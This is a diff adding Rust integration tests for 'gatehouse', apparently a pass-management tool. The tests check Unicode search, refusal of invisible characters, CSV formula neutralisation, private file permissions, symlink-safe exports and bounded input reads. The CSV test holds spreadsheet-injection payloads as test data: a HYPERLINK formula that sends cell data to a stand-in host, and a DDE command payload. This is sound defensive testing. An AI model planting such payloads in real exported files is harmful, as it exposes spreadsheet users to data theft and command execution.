@@ -152,3 +152,303 @@ fn unlock_and_enable_lift_a_lockout() {
     let enable = g.ledger_blocks(0, 100).unwrap().into_iter().find(|b| b.event == "user_enable").unwrap();
     assert!(enable.data.contains("\"unlocked\":true"), "{}", enable.data);
 }
+
+// ------------------------------------------------------------- the binary
+
+/// A finished gatehouse process, with its raw output bytes.
+struct Out {
+    code: Option<i32>,
+    stdout: Vec<u8>,
+    stderr: Vec<u8>,
+}
+
+impl Out {
+    fn out(&self) -> String {
+        String::from_utf8_lossy(&self.stdout).into_owned()
+    }
+    fn err(&self) -> String {
+        String::from_utf8_lossy(&self.stderr).into_owned()
+    }
+}
+
+/// `gatehouse --data-dir DIR ARGS`, signed in as `user` when given.
+fn run(env: &Env, user: Option<(&str, &str)>, args: &[&str]) -> Out {
+    let mut c = Command::new(bin());
+    c.arg("--data-dir").arg(env.data_dir()).args(args).stdin(Stdio::null());
+    for v in ["GATEHOUSE_USER", "GATEHOUSE_PASSWORD", "GATEHOUSE_DATA_DIR", "GATEHOUSE_CONFIG"] {
+        c.env_remove(v);
+    }
+    if let Some((u, pw)) = user {
+        c.args(["--user", u]).env("GATEHOUSE_PASSWORD", pw);
+    }
+    let o = c.output().unwrap();
+    let out = Out { code: o.status.code(), stdout: o.stdout, stderr: o.stderr };
+    assert!(!out.err().contains("panicked"), "{}", out.err());
+    out
+}
+
+const ADMIN: Option<(&str, &str)> = Some(("asha", PASSWORD));
+
+fn env_with_users() -> Env {
+    let env = Env::new();
+    let mut g = env.open();
+    with_admin(&mut g);
+    g.add_user(Some(&admin()), "omar", "Omar", Role::Operator, OP_PW).unwrap();
+    env
+}
+
+fn mode(p: &std::path::Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
+}
+
+fn set_mode(p: &std::path::Path, m: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
+}
+
+// ---------------------------------------------------------------- Unicode
+
+/// Search folds case over all of Unicode, for passes and residents, in
+/// rows written before the search column existed too.
+#[test]
+fn search_finds_accented_capitals() {
+    use gatehouse::domain::resident::ResidentRequest;
+    use gatehouse::store::PassFilter;
+    let env = Env::new();
+    let mut g = env.open();
+    issue(&mut g, &single("Élise Ñúñez", "9876543210"));
+    issue(&mut g, &single("Asha Rao", "9876543211"));
+    let r = ResidentRequest { name: "ÖZLEM Çelik".into(), room: "B-204".into(), ..Default::default() };
+    g.add_resident(&admin(), &r).unwrap();
+    drop(g);
+    // Make the database look like one from before migration 2, then reopen.
+    let c = rusqlite::Connection::open(env.db()).unwrap();
+    c.execute_batch("ALTER TABLE passes DROP COLUMN search_key; ALTER TABLE residents DROP COLUMN search_key; PRAGMA user_version = 1;")
+        .unwrap();
+    drop(c);
+    let mut g = env.open();
+    let find = |g: &mut Gatehouse, s: &str| -> Vec<String> {
+        let f = PassFilter { search: Some(s.into()), ..Default::default() };
+        g.list_passes(&f).unwrap().into_iter().map(|p| p.holder_name).collect()
+    };
+    for s in ["élise", "Élise", "ÉLISE", "ñúñez", "ÑÚÑEZ", "E\u{301}LISE", "lise ñ"] {
+        assert_eq!(find(&mut g, s), ["Élise Ñúñez"], "{s}");
+    }
+    assert!(find(&mut g, "elise").is_empty(), "case folds; accents stay");
+    issue(&mut g, &single("ÅSE Lindqvist", "9876543212"));
+    assert_eq!(find(&mut g, "åse"), ["ÅSE Lindqvist"]);
+    for s in ["özlem", "ÇELIK", "b-204"] {
+        let names: Vec<String> = g.list_residents(Some(s), false).unwrap().into_iter().map(|r| r.name).collect();
+        assert_eq!(names, ["ÖZLEM Çelik"], "{s}");
+    }
+}
+
+/// Each invisible or direction character is refused in a holder's name, and
+/// a name that differs only in invisible characters or composition is no
+/// way around the one-pass-per-holder check.
+#[test]
+fn invisible_characters_are_refused_and_duplicates_compare_what_is_seen() {
+    let env = Env::new();
+    let mut g = env.open();
+    issue(&mut g, &single("Asha Rao", "9876543210"));
+    for c in ['\u{200B}', '\u{2800}', '\u{3164}', '\u{202E}', '\u{FEFF}', '\u{200D}', '\u{2066}', '\u{115F}', '\u{1b}'] {
+        for name in [format!("Asha{c}Rao"), format!("Asha {c}Rao"), c.to_string().repeat(4)] {
+            let e = g.issue_pass(&admin(), &single(&name, "9876543210")).unwrap_err().to_string();
+            assert!(e.contains("name: contains"), "U+{:04X} in {name:?}: {e}", c as u32);
+        }
+    }
+    // NFD and NFC spellings of one name are one holder.
+    issue(&mut g, &single("Élise Ñúñez", "9876543211"));
+    let e = g.issue_pass(&admin(), &single("E\u{301}lise N\u{303}u\u{301}n\u{303}ez", "9876543211")).unwrap_err();
+    assert!(matches!(e, gatehouse::Error::DuplicatePass { .. }), "{e}");
+    let e = g.issue_pass(&admin(), &single("ASHA  RAO", "9876543210")).unwrap_err();
+    assert!(matches!(e, gatehouse::Error::DuplicatePass { .. }), "{e}");
+}
+
+// -------------------------------------------------------------------- CSV
+
+/// Formula-looking cells are neutralised, `Anna-Lena` and phones are not,
+/// and the exported file imports into another gatehouse as it is.
+#[test]
+fn csv_export_neutralises_formulas_and_imports_again() {
+    let env = Env::new();
+    let mut g = env.open();
+    let names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "Anna-Lena"];
+    for (i, n) in names.iter().enumerate() {
+        issue(&mut g, &single(n, &format!("+91987654321{i}")));
+    }
+    let mut c = couple("Ravi", "9000000001", "Meena", "9000000002");
+    c.txn_ref = Some("=1+2".into());
+    issue(&mut g, &c);
+    let file = env.dir.path().join("passes.csv");
+    g.export_csv(gatehouse::service::ExportKind::Passes, &file).unwrap();
+    let mut rdr = csv::Reader::from_path(&file).unwrap();
+    let h: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
+    let col = |n: &str| h.iter().position(|c| c == n).unwrap();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+    let cell = |row: &csv::StringRecord, n: &str| row.get(col(n)).unwrap().to_string();
+    let holders: Vec<String> = rows.iter().map(|r| cell(r, "holder_name")).collect();
+    for n in &names[..4] {
+        assert!(holders.contains(&format!("'{n}")), "{n} not neutralised: {holders:?}");
+    }
+    assert!(holders.contains(&"Anna-Lena".to_string()), "{holders:?}");
+    assert!(rows.iter().any(|r| cell(r, "txn_ref") == "'=1+2"));
+    // Phones are written as stored: `+` and digits, which no spreadsheet runs.
+    assert!(rows.iter().any(|r| cell(r, "holder_phone") == "+919876543210"));
+    for r in &rows {
+        for c in r.iter() {
+            assert!(!c.starts_with(['=', '@', '\t', '\r']), "{c}");
+            assert!(!c.starts_with(['+', '-']) || c[1..].chars().all(|d| d.is_ascii_digit() || d == '.'), "{c}");
+        }
+    }
+
+    // The round trip: the same holders, phones and references, new ids.
+    let other = Env::new();
+    let mut g2 = other.open();
+    let imported = g2.import_passes_file(&admin(), &file).unwrap();
+    assert_eq!(imported.len(), rows.len());
+    let mut before: Vec<_> = g.list_passes(&Default::default()).unwrap();
+    let mut after: Vec<_> = g2.list_passes(&Default::default()).unwrap();
+    for l in [&mut before, &mut after] {
+        l.sort_by(|a, b| a.holder_name.cmp(&b.holder_name));
+    }
+    let key = |p: &gatehouse::domain::pass::Pass| {
+        (p.holder_name.clone(), p.holder_phone.clone(), p.holder2_name.clone(), p.txn_ref.clone(), p.price_cents, p.slot.clone())
+    };
+    assert_eq!(before.iter().map(key).collect::<Vec<_>>(), after.iter().map(key).collect::<Vec<_>>());
+}
+
+// ------------------------------------------------------------------ files
+
+/// Backups and exports are 0600, their folders 0700 (an existing, open
+/// folder included), and an export never lands on gatehouse's own files.
+#[test]
+fn backups_exports_and_folders_are_private() {
+    let env = env_with_users();
+    let data = env.data_dir().to_path_buf();
+    let backups = data.join("backups");
+    let logs = data.join("logs");
+    for d in [&backups, &logs] {
+        std::fs::create_dir_all(d).unwrap();
+        set_mode(d, 0o755);
+    }
+    let r = run(&env, ADMIN, &["backup"]);
+    assert_eq!(r.code, Some(0), "{}", r.err());
+    let file = r.out().lines().find_map(|l| l.strip_prefix("backup written: ").map(std::path::PathBuf::from)).unwrap();
+    assert_eq!((mode(&file), mode(&backups), mode(&logs)), (0o600, 0o700, 0o700));
+    let to = env.dir.path().join("elsewhere");
+    let r = run(&env, ADMIN, &["backup", "--to", to.to_str().unwrap()]);
+    let file = r.out().lines().find_map(|l| l.strip_prefix("backup written: ").map(std::path::PathBuf::from)).unwrap();
+    assert_eq!((mode(&file), mode(&to)), (0o600, 0o700));
+
+    let csv = env.dir.path().join("passes.csv");
+    let r = run(&env, ADMIN, &["export", "passes", "--csv", csv.to_str().unwrap()]);
+    assert_eq!((r.code, mode(&csv)), (Some(0), 0o600), "{}", r.err());
+
+    let db_before = std::fs::read(env.db()).unwrap();
+    let owned = ["gatehouse.db", "gatehouse.db-wal", "gatehouse.db-shm", "gatehouse.key", "config.toml", "backups/x.csv", "logs/x.csv"];
+    for name in owned {
+        for what in ["passes", "ledger"] {
+            let target = data.join(name);
+            let r = run(&env, ADMIN, &["export", what, "--csv", target.to_str().unwrap()]);
+            assert_eq!(r.code, Some(2), "{name}: {}", r.out());
+            assert!(r.err().contains("refusing to export onto"), "{name}: {}", r.err());
+        }
+    }
+    // Through another spelling of the same path, and through a symlink.
+    let dotted = data.join("backups/../gatehouse.db");
+    let link = env.dir.path().join("link.csv");
+    std::os::unix::fs::symlink(env.db(), &link).unwrap();
+    for target in [&dotted, &link] {
+        let r = run(&env, ADMIN, &["export", "passes", "--csv", target.to_str().unwrap()]);
+        assert!(r.code == Some(2) && r.err().contains("refusing"), "{}: {}", target.display(), r.err());
+    }
+    assert_eq!(std::fs::read(env.db()).unwrap(), db_before);
+    let mut g = env.open();
+    assert!(g.verify_ledger(None, &mut |_| {}).unwrap().ok);
+}
+
+/// `key rotate` over a stale, world-readable `.new` leaves the key 0600 and
+/// records its block; a malformed key file's error holds no key material,
+/// on the terminal or in the log.
+#[test]
+fn key_rotation_and_key_file_errors_stay_private() {
+    let env = env_with_users();
+    let key = env.paths.key();
+    let stale = env.data_dir().join("gatehouse.key.new");
+    std::fs::write(&stale, "junk\n").unwrap();
+    set_mode(&stale, 0o644);
+    let r = run(&env, ADMIN, &["key", "rotate"]);
+    assert_eq!(r.code, Some(0), "{}", r.err());
+    assert_eq!(mode(&key), 0o600);
+    let mut g = env.open();
+    assert_eq!(g.keys().ids().collect::<Vec<_>>(), ["01", "02"]);
+    assert_eq!(blocks(&mut g, "key_rotate"), 1);
+    drop(g);
+
+    let good = std::fs::read_to_string(&key).unwrap();
+    let hexes: Vec<String> =
+        good.lines().filter(|l| !l.starts_with('#')).filter_map(|l| l.split_whitespace().nth(1)).map(String::from).collect();
+    let swapped: String = good
+        .lines()
+        .map(|l| match l.split_once(' ') {
+            Some((id, hex)) if !l.starts_with('#') => format!("{hex} {id}\n"),
+            _ => format!("{l}\n"),
+        })
+        .collect();
+    std::fs::write(&key, swapped).unwrap();
+    let r = run(&env, ADMIN, &["pass", "list"]);
+    assert_eq!(r.code, Some(2));
+    assert!(r.err().contains("bad key id"), "{}", r.err());
+    let mut logged = String::new();
+    for e in std::fs::read_dir(env.data_dir().join("logs")).unwrap() {
+        logged.push_str(&std::fs::read_to_string(e.unwrap().path()).unwrap());
+    }
+    assert!(logged.contains("bad key id"), "the error is logged: {logged}");
+    for h in &hexes {
+        for half in [&h[..32], &h[32..], &h[..8]] {
+            assert!(!r.err().contains(half) && !r.out().contains(half) && !logged.contains(half), "key material shown");
+        }
+    }
+}
+
+// ---------------------------------------------------------- bounded reads
+
+/// Counts the bytes read through it.
+struct Counting<R> {
+    inner: R,
+    read: Arc<std::sync::atomic::AtomicU64>,
+}
+
+impl<R: std::io::Read> std::io::Read for Counting<R> {
+    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
+        let n = self.inner.read(buf)?;
+        self.read.fetch_add(n as u64, std::sync::atomic::Ordering::SeqCst);
+        Ok(n)
+    }
+}
+
+/// A 50 MB line is rejected after at most 513 bytes are read; the file
+/// through the binary too.
+#[test]
+fn a_huge_payload_file_is_rejected_after_513_bytes() {
+    use std::io::Read;
+    let env = env_with_users();
+    let mut g = env.open();
+    let read = Arc::new(std::sync::atomic::AtomicU64::new(0));
+    let input = Counting { inner: std::io::repeat(b'A').take(50 << 20), read: read.clone() };
+    let mut seen = Vec::new();
+    let e = g.scan_lines(input, &operator(), "North", &mut |o| seen.push(o.verdict)).unwrap_err().to_string();
+    assert!(e.contains("longer than 512 bytes"), "{e}");
+    let n = read.load(std::sync::atomic::Ordering::SeqCst);
+    assert!(n <= 513, "read {n} bytes");
+    assert_eq!(seen, [gatehouse::domain::scan::Verdict::Malformed]);
+
+    // Good lines before a long one are scanned; a payload's own line is read whole.
+    let (_, code) = issue(&mut g, &single("Asha Rao", "9876543210"));
+    let text = format!("{code}\r\n\n{code}\n{}\n", "B".repeat(600));
+    let mut seen = Vec::new();
+    assert!(g.scan_lines(text.as_bytes(), &operator(), "North", &mut |o| seen.push(o.verdict.as_str())).is_err());
+    assert_eq!(seen, ["ADMITTED", "ALREADY_USED", "MALFORMED"]);
+}
